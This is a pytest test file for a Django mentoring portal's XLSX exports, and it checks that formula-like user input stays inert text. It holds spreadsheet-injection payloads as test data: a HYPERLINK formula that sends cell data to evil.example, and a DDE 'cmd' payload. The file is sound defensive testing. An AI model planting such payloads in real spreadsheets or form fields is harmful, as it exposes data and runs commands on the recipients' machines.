"""No export carries a formula: a typed text that starts like one («=», «+», «-», «@», tab, return) stays text in
every XLSX, so a surname «=HYPERLINK(…)» is not a link in the methodist's Excel."""

import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from mentoring_portal.lib.exports import Column, Sheet, SheetRow, write_xlsx
from tests.factories import SAYANSKY_SECTIONS, make_roadmap, person

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Открыть")', "+7 (391) 000-00-00", "-2+3", "@SUM(A1:A2)",
           "\t=1+1", "\r=1+1"]


def formulas_in(data: bytes) -> list[str]:
    archive = zipfile.ZipFile(io.BytesIO(data))
    return [name for name in archive.namelist() if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)]


def test_the_writer_keeps_every_formula_like_text_as_text():
    data = write_xlsx([Sheet("Лист", [Column("Текст")], [SheetRow([text]) for text in HOSTILE], heading=["=1+2"])])
    assert formulas_in(data) == []
    sheet = load_workbook(io.BytesIO(data)).active
    values = [row[0].value for row in sheet.iter_rows(min_row=3)]
    assert values == HOSTILE
    assert all(row[0].data_type == "s" for row in sheet.iter_rows())


def test_control_characters_typed_into_a_field_do_not_break_the_export():
    data = write_xlsx([Sheet("Лист", [Column("Текст")], [SheetRow(["Иванова\x07\x1b Мария"])])])
    assert load_workbook(io.BytesIO(data)).active["A2"].value == "Иванова Мария"


def test_a_surname_like_a_formula_is_text_in_the_registry_export(login, world):
    person(world.school, last_name=HOSTILE[0])
    response = login(world.school_curator).get(reverse("participants:people-export", args=[world.school.code]))
    data = b"".join(response.streaming_content) if response.streaming else response.content
    assert formulas_in(data) == []
    assert HOSTILE[0] in [c.value for row in load_workbook(io.BytesIO(data)).worksheets[0].iter_rows() for c in row]


@pytest.mark.django_db
def test_an_item_like_a_formula_is_text_in_the_roadmap_export(login, world):
    roadmap = make_roadmap(world.district, sections=SAYANSKY_SECTIONS)
    roadmap.items.update(name="=cmd|' /C calc'!A0")
    response = login(world.curator).get(reverse("roadmaps:export", args=[roadmap.pk, "xlsx"]))
    assert response.status_code == 200 and formulas_in(response.content) == []


def test_unwrapped_sheets_keep_text_text_and_dates_dates():
    from datetime import date

    data = write_xlsx([Sheet("Лист", [Column("Текст"), Column("Дата", kind="date")],
                             [SheetRow([HOSTILE[0], date(2024, 5, 1)]), SheetRow(["Иванова\x07", None])], wrap=False)])
    assert formulas_in(data) == []
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet["A2"].value == HOSTILE[0] and sheet["B2"].number_format == "DD.MM.YYYY"
    assert sheet["A3"].value == "Иванова"
